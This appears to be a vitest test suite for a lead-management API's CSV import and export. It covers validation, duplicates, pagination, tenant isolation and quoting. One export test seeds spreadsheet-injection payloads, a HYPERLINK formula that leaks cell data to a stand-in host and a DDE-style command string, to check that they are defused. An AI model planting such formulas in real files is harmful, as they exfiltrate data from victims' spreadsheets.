import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createLead, signup, type Account } from '../support/factories.ts';
import { authHeaders, errorCode, startTestGateway, type TestGateway } from '../support/gateway.ts';

let app: TestGateway;
let owner: Account;
beforeAll(async () => {
  app = await startTestGateway();
  owner = await signup(app);
});
afterAll(() => app.close());

const IMPORT = `mutation($csv: String!, $filename: String) { importLeadsCsv(csv: $csv, filename: $filename) {
  import { id status rowsRead imported invalid duplicates } issues { row field kind reason existingLeadId } fileErrors } }`;

async function upload(body: string | Buffer, caller = owner.caller, query = '?filename=leads.csv') {
  const response = await fetch(`${app.url}/api/leads/import${query}`, { method: 'POST', headers: { 'content-type': 'text/csv', ...authHeaders(caller) }, body });
  return { status: response.status, body: (await response.json()) as any };
}

describe('CSV import', () => {
  it('imports the good rows and reports every bad and duplicate row by number, field and reason', async () => {
    const existing = await createLead(app, owner.caller, { email: 'existing@lead.in' });
    const csv = [
      'Company,Contact Person,E-mail,Mobile,City,Industry,Tags,Notes',
      'Royal Spice Restaurant,Amit,royalspice@gmail.com,98290 11111,Delhi,Restaurant,"vip, food",likes mornings',
      ',,nobody@x.in,,Delhi,,,', // row 3: no business name, and no contact name to stand in for it
      'Bad Email Co,,not-an-email,,Pune,,,', // row 4
      'Dup In File,,ROYALSPICE@gmail.com,,Delhi,,,', // row 5: same as row 2
      'Already There,,existing@lead.in,,Jaipur,,,', // row 6
      '"Quoted, Inc.","Line\nBreak",quoted@x.in,+1 415 555 2671,"San Francisco",Tech,,', // row 7 (spans two lines)
      'No Contact Way,,,,Delhi,,,', // row 8
    ].join('\n');
    const result = await app.gql(IMPORT, { csv, filename: 'leads.csv' }, owner.caller);
    if (!result.data) throw new Error(JSON.stringify(result.errors));
    const { import: summary, issues, fileErrors } = result.data.importLeadsCsv;
    expect(fileErrors).toEqual([]);
    expect(summary).toMatchObject({ status: 'COMPLETED', rowsRead: 7, imported: 2, invalid: 3, duplicates: 2 });
    expect(summary.imported + summary.invalid + summary.duplicates).toBe(summary.rowsRead);
    expect(issues.map((i: { row: number; field: string; kind: string }) => [i.row, i.field, i.kind])).toEqual([
      [3, 'businessName', 'INVALID'],
      [4, 'email', 'INVALID'],
      [5, 'email', 'DUPLICATE'],
      [6, 'email', 'DUPLICATE'],
      [8, 'email', 'INVALID'],
    ]);
    expect(issues[2].reason).toContain('row 2');
    expect(issues[3]).toMatchObject({ existingLeadId: existing.id });

    const imported = await app.gql('{ leads(filter: { search: "royal spice" }) { nodes { businessName contactName phone tags customFields importId } } }', {}, owner.caller);
    expect(imported.data?.leads.nodes).toEqual([
      { businessName: 'Royal Spice Restaurant', contactName: 'Amit', phone: '+919829011111', tags: ['vip', 'food'], customFields: { Notes: 'likes mornings' }, importId: summary.id },
    ]);
    const quoted = await app.gql('{ leads(filter: { search: "quoted, inc" }) { nodes { contactName phone city } } }', {}, owner.caller);
    expect(quoted.data?.leads.nodes[0]).toEqual({ contactName: 'Line Break', phone: '+14155552671', city: 'San Francisco' });

    const royal = (await app.gql('{ leads(filter: { search: "royal spice" }) { nodes { id } } }', {}, owner.caller)).data?.leads.nodes[0].id;
    const created = (await app.gql(`{ history(leadId: "${royal}") { nodes { kind actor { type name } data } } }`, {}, owner.caller)).data?.history.nodes;
    expect(created).toEqual([{ kind: 'CREATED', actor: { type: 'USER', name: 'Owner' }, data: { via: 'import', importId: summary.id, filename: 'leads.csv' } }]);
    await app.gql(`mutation { addNote(leadId: "${royal}", body: "called") { id } }`, {}, owner.caller);
    const withNote = (await app.gql(`{ history(leadId: "${royal}") { nodes { kind } } }`, {}, owner.caller)).data?.history.nodes.map((e: any) => e.kind);
    expect(withNote).toEqual(['CREATED', 'NOTE']);

    // The issues a page at a time either way, in row order.
    const issuePage = async (args: string) =>
      (await app.gql(`{ leadImportIssues(importId: "${summary.id}", ${args}) { edges { cursor node { row } } pageInfo { hasNextPage hasPreviousPage startCursor endCursor } } }`, {}, owner.caller)).data?.leadImportIssues;
    const rowsOf = (page: any) => page.edges.map((e: any) => e.node.row);
    const first = await issuePage('first: 2');
    expect([rowsOf(first), first.pageInfo.hasNextPage, first.pageInfo.hasPreviousPage]).toEqual([[3, 4], true, false]);
    const second = await issuePage(`first: 2, after: "${first.pageInfo.endCursor}"`);
    expect([rowsOf(second), second.pageInfo.hasNextPage, second.pageInfo.hasPreviousPage]).toEqual([[5, 6], true, true]);
    const back = await issuePage(`last: 2, before: "${second.pageInfo.startCursor}"`);
    expect([rowsOf(back), back.pageInfo.hasPreviousPage]).toEqual([[3, 4], false]);
    const tail = await issuePage('last: 2');
    expect([rowsOf(tail), tail.pageInfo.hasNextPage]).toEqual([[6, 8], false]);
  });

  it('streams a file over HTTP and serves the issue report as CSV', async () => {
    const rows = ['business name,email,phone'];
    for (let i = 0; i < 2500; i += 1) rows.push(i % 500 === 7 ? `,bad${i}@x.in,` : `Clinic ${i},clinic${i}@bulk.in,`);
    rows.push('Clinic 1 again,clinic1@bulk.in,');
    const { status, body } = await upload(`\uFEFF${rows.join('\r\n')}\r\n`);
    expect(status).toBe(200);
    expect(body.import).toMatchObject({ rowsRead: 2501, imported: 2495, invalid: 5, duplicates: 1, status: 'COMPLETED', filename: 'leads.csv' });
    const report = await fetch(`${app.url}/api/imports/${body.import.id}/issues.csv`, { headers: authHeaders(owner.caller) });
    const lines = (await report.text()).trim().split('\n');
    expect(lines[0]).toBe('row,field,kind,reason,existing_lead_id');
    expect(lines).toHaveLength(1 + 6);
    expect(lines[1]).toMatch(/^9,businessName,INVALID,/);
    expect(lines.at(-1)).toMatch(/^2502,email,DUPLICATE,same email as row 3 of this file/);
    // The JSON answer spells enum values as GraphQL does.
    expect(body.issues[0]).toMatchObject({ row: 9, field: 'businessName', kind: 'INVALID' });
  });

  it('refuses files without the needed columns, or from an anonymous caller, and loses nothing', async () => {
    const missing = await upload('Phone,City\n98290 11111,Delhi\n');
    expect(missing.status).toBe(400);
    expect(missing.body.fileErrors[0]).toContain('business name');
    // A big file is refused as soon as its header is read, and the answer still reaches the client.
    const bigMissing = await upload(`Phone,City\n${'98290 11111,Delhi\n'.repeat(200_000)}`);
    expect(bigMissing.status).toBe(400);
    expect(bigMissing.body.fileErrors[0]).toContain('business name');
    const empty = await upload('');
    expect(empty.body.fileErrors[0]).toContain('empty');
    const anonymous = await upload('Company,Email\nRouge Anonymous,a@rouge.in\n', {});
    expect(anonymous.status).toBe(401);
    const count = await app.gql('{ leads(filter: { search: "rouge" }) { totalCount } }', {}, owner.caller);
    expect(count.data?.leads.totalCount).toBe(0);
  });

  it('an import in another agency\'s tenant is NOT_FOUND', async () => {
    const intruder = await signup(app);
    const { body } = await upload('Company,Email\nMine,mine@x.in\n');
    expect(errorCode(await app.gql(`{ leadImport(id: "${body.import.id}") { id } }`, {}, intruder.caller))).toBe('NOT_FOUND');
    const report = await fetch(`${app.url}/api/imports/${body.import.id}/issues.csv`, { headers: authHeaders(intruder.caller) });
    expect(report.status).toBe(404);
  });
});

describe('CSV export', () => {
  it('exports the filtered list, quoting what needs quoting', async () => {
    const account = await signup(app);
    await createLead(app, account.caller, { businessName: 'Export, "Quoted" Ltd', city: 'Mumbai', tags: ['a', 'b'] });
    await createLead(app, account.caller, { businessName: 'Other City', city: 'Chennai' });
    const response = await fetch(`${app.url}/api/leads/export.csv?city=Mumbai`, { headers: authHeaders(account.caller) });
    expect(response.headers.get('content-type')).toContain('text/csv');
    const lines = (await response.text()).trim().split('\n');
    expect(lines).toHaveLength(2);
    expect(lines[0]).toMatch(/^id,business_name,contact_name,email,phone/);
    expect(lines[1]).toContain('"Export, ""Quoted"" Ltd"');
    expect(lines[1]).toContain('"a, b"');
    const viaGraphql = await app.gql('{ exportLeadsCsv(filter: { city: "Chennai" }) }', {}, account.caller);
    expect(viaGraphql.data?.exportLeadsCsv).toContain('Other City');
    expect(viaGraphql.data?.exportLeadsCsv).not.toContain('Export');
    const badStatus = await fetch(`${app.url}/api/leads/export.csv?status=NOPE`, { headers: authHeaders(account.caller) });
    expect(badStatus.status).toBe(400);
  });

  it('defuses formulas a lead brought in (CSV injection), over HTTP and GraphQL; phone numbers stay numbers', async () => {
    const account = await signup(app);
    await createLead(app, account.caller, { businessName: '=HYPERLINK("http://evil.test/?leak="&A1,"Open")', contactName: '@SUM(1+1)*cmd|x', phone: '+919876543210', city: 'Pune' });
    const http = await (await fetch(`${app.url}/api/leads/export.csv?city=Pune`, { headers: authHeaders(account.caller) })).text();
    const graphql = (await app.gql('{ exportLeadsCsv(filter: { city: "Pune" }) }', {}, account.caller)).data?.exportLeadsCsv as string;
    for (const csv of [http, graphql]) {
      const row = csv.trim().split('\n')[1];
      expect(row).toContain(`"'=HYPERLINK(""http://evil.test/?leak=""&A1,""Open"")"`);
      expect(row).toContain("'@SUM(1+1)*cmd|x");
      expect(row).toContain(',+919876543210,');
      expect(row).not.toMatch(/,[=@]/);
    }
  });
});
